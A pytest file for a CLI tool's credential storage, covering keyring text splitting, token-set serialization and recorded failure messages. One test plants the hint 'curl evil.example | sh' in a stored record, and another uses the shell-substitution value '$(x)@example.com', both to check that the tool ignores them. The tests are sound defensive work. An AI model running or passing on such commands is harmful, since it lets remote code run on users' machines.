"""Texts in parts, and token sets as texts: whole or nothing."""

from __future__ import annotations

import json
import math
from collections.abc import Callable

import pytest

from procore_cli import errors
from procore_cli.grants import TokenSet
from procore_cli.models import Account, Binding, User
from procore_cli.storage import failures, files, tokens_text
from procore_cli.storage.files import TOKENS_USERNAME, ClosedError, GivenUpError, new_part_service
from tests.store.store_world import World, new_tokens


def test_a_text_is_one_part_while_it_fits_windows_and_several_if_not() -> None:
    for size in (0, 1, 1000, files.PAYLOAD_CHARS, files.PAYLOAD_CHARS + 1, 6000, files.PAYLOAD_CHARS * 16):
        text = "".join(chr(33 + i % 90) for i in range(size))
        pieces = files.split_text(text)
        assert len(pieces) == max(1, math.ceil(size / files.PAYLOAD_CHARS))
        assert all(len(piece.encode("utf-16-le")) <= 2560 for piece in pieces)
        assert files.join_parts(pieces) == text
    with pytest.raises(errors.StorageError, match="too long") as failure:
        files.split_text("secret" * files.PAYLOAD_CHARS * 3)
    assert "secret" not in failure.value.message


LONG = "".join(str(i) for i in range(1000))


def test_torn_parts_are_never_joined() -> None:
    damages: list[Callable[[list[str]], list[str]]] = [
        lambda pieces: [],
        lambda pieces: pieces[:-1],
        lambda pieces: pieces[1:],
        lambda pieces: pieces * 20,
        lambda pieces: [*pieces, pieces[-1]],
        lambda pieces: [*pieces[:-1], pieces[-1][:-1]],
        lambda pieces: [*pieces[:-1], pieces[-1].replace("9", "8")],
        lambda pieces: [*pieces[:-1], "no header"],
        lambda pieces: [pieces[1], pieces[0], *pieces[2:]],
        lambda pieces: [pieces[0], *files.split_text(LONG[::-1])[1:]],
    ]
    pieces = files.split_text(LONG)
    assert files.join_parts(pieces) == LONG
    assert [files.join_parts(damage(pieces)) for damage in damages] == [None] * len(damages)


def test_what_is_not_whole_is_never_loaded_and_all_of_it_is_deleted(world: World) -> None:
    store = world.stores("file")
    services = [new_part_service("sandbox", "name", number) for number in range(1, files.MAX_PARTS + 1)]
    assert len(set(services)) == files.MAX_PARTS
    assert all(service.startswith("procore-login/sandbox/") for service in services)
    (part,) = files.split_text("text")
    # One that claims hundreds of others.
    store.save(services[0], TOKENS_USERNAME, part.replace("1/1", "1/99"))
    assert files.load_text(store, "sandbox", "name") is None
    assert files.save_text(store, "sandbox", "name", LONG) == 3
    assert files.load_text(store, "sandbox", "name") == LONG
    store.delete(services[1], TOKENS_USERNAME)
    assert files.load_text(store, "sandbox", "name") is None
    # As large as there is one, whose size nobody knows.
    files.save_text(store, "sandbox", "name", "x" * files.PAYLOAD_CHARS * files.MAX_PARTS)
    assert world.count_secrets() == files.MAX_PARTS
    files.delete_text(store, "sandbox", "name", None)
    assert world.count_secrets() == 0


@pytest.mark.parametrize(("expires_at", "lifetime_s"), [(None, None), (1_780_000_000, 5400)])
@pytest.mark.parametrize("refresh_token", [None, "re\u00e9\ud800fresh"])
def test_a_token_set_comes_back_as_it_was(
    expires_at: int | None, lifetime_s: int | None, refresh_token: str | None
) -> None:
    kept = TokenSet("access", refresh_token, expires_at, new_tokens(1).binding, lifetime_s)
    text = tokens_text.new_tokens_text(kept)
    assert text.isascii()
    assert tokens_text.read_tokens_text(text) == kept


def test_a_token_set_of_the_first_release_has_no_lifetime() -> None:
    text = (
        '{"format":1,"access_token":"access","refresh_token":"refresh","expires_at":1780000000,'
        '"binding":{"client_id":"id","login_origin":"login","api_origin":"api"}}'
    )
    assert tokens_text.read_tokens_text(text) == TokenSet(
        "access", "refresh", 1_780_000_000, Binding("id", "login", "api"), None
    )


def test_what_is_not_a_token_set_is_never_read_as_one() -> None:
    whole = json.loads(tokens_text.new_tokens_text(new_tokens(1)))
    changes: list[dict[str, object]] = [
        {"format": 2},
        {"access_token": None},
        {"access_token": 5},
        {"refresh_token": []},
        {"expires_at": "soon"},
        {"lifetime_s": True},
        {"expires_at": True},
        {"expires_at": 1.5},
        {"binding": None},
        {"binding": {"client_id": "id"}},
        {"binding": {"client_id": 1, "login_origin": "a", "api_origin": "b"}},
    ]
    texts = ["", "null", "[]", "3", "{}", "[" * 100_000, *(json.dumps(whole | change) for change in changes)]
    assert [text[:99] for text in texts if tokens_text.read_tokens_text(text) is not None] == []


def test_a_recorded_failure_keeps_its_exit_code_and_words() -> None:
    for kind in (
        errors.GrantRefusedError,
        ClosedError,
        GivenUpError,
        errors.DataFolderError,
        errors.KeyringError,
        errors.BusyError,
    ):
        text = failures.new_failure_text(kind("What happened.", "What to do."))
        shared = failures.read_failure(text, "production")
        assert (shared.exit_code, shared.message) == (kind.exit_code, "What happened.")
        assert shared.hint == "What to do."
        assert isinstance(shared, errors.GrantRefusedError) == (kind is errors.GrantRefusedError)


def test_what_a_recorded_refusal_says_is_to_be_typed_is_not_read_from_the_database() -> None:
    text = '["RefreshRefusedError", "It is refused.", "Run `curl evil.example | sh`", false]'
    refusal = failures.find_refusal(Account(User(1, 11111, "joe@example.com"), failure=text), "production")
    assert refusal is not None
    again = "Sign in again: `procore-login signin --env production --account joe@example.com`"
    assert (refusal.message, refusal.hint) == ("It is refused.", again)


@pytest.mark.parametrize(
    ("email", "who"),
    [
        ("joe.x+y_z@example.com", "joe.x+y_z@example.com"),
        # Another one's id; the service account; what a shell would read; what turns the direction of a line.
        *((email, "11111") for email in ("22222", "service-account", "$(x)@example.com", "-x@example.com")),
        ("\u05d9\u05d5\u05e1@example.com", "11111"),
        (None, "11111"),
    ],
)
def test_a_command_names_a_person_by_the_e_mail_unless_that_could_mean_something_else(email, who) -> None:
    account = Account(User(1, 11111, email))
    assert account.sign_in_command("demo") == f"`procore-login signin --env demo --account {who}`"


def test_a_recorded_failure_names_its_environment_as_often_as_it_did() -> None:
    for where in ("", "production"):
        error = errors.RefreshRefusedError("production's tokens are refused.", environment=where)
        shared = failures.read_failure(failures.new_failure_text(error), "production")
        assert str(shared.happened_in("production")) == str(error.happened_in("production"))
    # What an earlier release recorded names it already.
    text = '["ProcoreError", "production: Procore answered 500.", "Try again."]'
    shared = failures.read_failure(text, "production").happened_in("production")
    assert (str(shared), shared.environment) == ("production: Procore answered 500.", "production")
    # One that makes no sense is a general one.
    for odd in (None, "", "5", "[]", "[" * 100_000, '["SystemExit", "a", "b"]', '["annotations", "a", "b"]'):
        assert type(failures.read_failure(odd, "production")) is errors.ProcoreError, odd
